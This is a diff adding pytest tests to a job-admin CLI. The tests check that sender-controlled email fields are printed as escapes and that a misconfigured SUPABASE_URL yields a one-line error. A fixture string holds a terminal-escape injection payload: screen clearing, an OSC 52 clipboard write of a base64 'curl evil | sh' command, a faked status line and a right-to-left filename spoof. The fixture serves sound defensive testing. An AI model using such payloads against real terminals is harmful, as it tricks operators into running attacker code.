@@ -3,9 +3,13 @@ worker runs, queue health, and retention."""
 
 from __future__ import annotations
 
+import contextlib
+import http.server
 import json
 import subprocess
 import sys
+import threading
+from collections.abc import Iterator
 from datetime import timedelta
 
 import pytest
@@ -271,3 +275,115 @@ def test_an_unreachable_database_names_the_url_and_exits_4(monkeypatch, capsys, 
     assert admin.main(list(argv)) == 4
     [line] = capsys.readouterr().err.splitlines()
     assert line == "error: cannot reach the database at http://127.0.0.1:9 (SUPABASE_URL): ConnectError"
+
+
+# --- a sender's text on the operator's terminal ----------------------------------------------------
+
+# Clear the screen, write the clipboard (OSC 52: "curl evil | sh"), and fake a status line.
+HOSTILE = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\rstatus: completed\n\x9b1m\u202etxt.exe"
+
+
+def hostile_job(db) -> str:
+    email = db.execute(
+        "select * from record_inbound_email('em_hostile', 'msg', %s)",
+        (json.dumps({"from": HOSTILE, "subject": "請求書 " + HOSTILE}),),
+    ).fetchone()
+    db.execute(
+        """insert into fax_received_email_attachments (fax_received_email_id, provider_attachment_id, filename,
+                  content_type, size_bytes, sha256, bucket, storage_path)
+           values (%s, 'att_1', %s, 'application/pdf', 618, repeat('a', 64), 'fax-attachments', 'x/a.pdf')""",
+        (email["fax_received_email_id"], "fax" + HOSTILE + ".pdf"),
+    )
+    [job] = db.execute("select * from claim_document_jobs('fetch_email', 1)").fetchall()
+    db.execute("select fail_document_job(%s, %s, 'resend_rejected', %s, p_retryable => false)",
+               (job["id"], job["generation"], "Resend 400: " + HOSTILE))  # fmt: skip
+    return str(job["id"])
+
+
+def test_show_prints_a_senders_control_sequences_as_escapes(cli, db) -> None:
+    job_id = hostile_job(db)
+
+    status, out, _ = cli("show", job_id)
+
+    assert status == 0
+    assert all(c.isprintable() for line in out.splitlines() for c in line), "no control character reaches the terminal"
+    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\rstatus: completed\\n\\x9b1m\\u202etxt.exe" in out
+    assert [line for line in out.splitlines() if "status: completed" in line and "\\r" not in line] == []
+    assert "請求書" in out
+    status, out, _ = cli("show", job_id, "--json")
+    assert json.loads(out)["email"]["subject"] == "請求書 " + HOSTILE, "--json keeps the raw value, escaped as JSON"
+    assert all(c.isprintable() or c == "\n" for c in out)
+
+
+@pytest.mark.parametrize(
+    "locale",
+    [{"PYTHONIOENCODING": "ascii"}, {"LC_ALL": "C"}, {"LC_ALL": "C", "PYTHONUTF8": "0"}],
+    ids=["PYTHONIOENCODING=ascii", "LC_ALL=C", "LC_ALL=C without UTF-8 mode"],
+)
+def test_a_terminal_that_is_not_utf8_gets_escapes_not_a_traceback(db, stack_env, locale) -> None:
+    job_id = hostile_job(db)
+    env = {key: value for key, value in stack_env.items() if not key.startswith(("LC_", "LANG", "PYTHON"))}
+    for argv in (["show", job_id], ["show", job_id, "--json"], ["list"], ["stats"]):
+        result = subprocess.run([sys.executable, "-m", "lib.admin", *argv], capture_output=True, env=env | locale,
+                                timeout=60)  # fmt: skip
+        assert (result.returncode, result.stderr) == (0, b""), argv
+        out = result.stdout.decode("utf-8")
+        assert "\x1b" not in out
+        if argv[-1] == "--json":
+            assert json.loads(out)["email"]["subject"] == "請求書 " + HOSTILE
+        elif argv[0] == "show":
+            assert "請求書" in out or "\\u8acb\\u6c42\\u66f8" in out
+
+
+# The answer, and the exit status: 3 for a SUPABASE_URL that is not a project's API, 4 for a
+# gateway's 5xx without PostgREST's error (a paused or restarting project looks like that).
+NOT_POSTGREST = [
+    (200, "text/html", b"<html><body>Welcome to nginx!</body></html>", 3),
+    (404, "text/html", b"<html><body>404 Not Found\n</body></html>", 3),
+    (200, "application/json", b'{"unexpected": true}', 3),
+    (200, "application/json", b"[1, 2, 3]", 3),
+    (502, "text/plain", b"Bad Gateway\r\n\x1b[2J", 4),
+]
+
+
+@pytest.mark.parametrize(("status", "content_type", "body", "exit_status"), NOT_POSTGREST,
+                         ids=["HTML page", "HTML 404", "other JSON", "a JSON list", "a proxy's 502"])  # fmt: skip
+def test_a_url_that_is_not_postgrest_is_one_line_and_exit_3_or_4(
+    monkeypatch, capsys, status, content_type, body, exit_status
+) -> None:
+    with answering(status, content_type, body) as url:
+        monkeypatch.setenv("SUPABASE_URL", url)
+        monkeypatch.setenv("SUPABASE_SERVICE_ROLE_KEY", "key")
+        for argv in (["list"], ["stats"], ["show", "00000000-0000-0000-0000-000000000000"],
+                     ["retry", "00000000-0000-0000-0000-000000000000"], ["retention"], ["purge"]):  # fmt: skip
+            assert admin.main(argv) == exit_status, argv
+            out, err = capsys.readouterr()
+            [line] = err.splitlines()
+            assert out == "" and line.startswith("error: ") and "\x1b" not in line, (argv, err)
+
+
+@contextlib.contextmanager
+def answering(status: int, content_type: str, body: bytes) -> Iterator[str]:
+    """A loopback server answering every request the same: where SUPABASE_URL points by mistake."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_POST = do_PATCH = answer
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
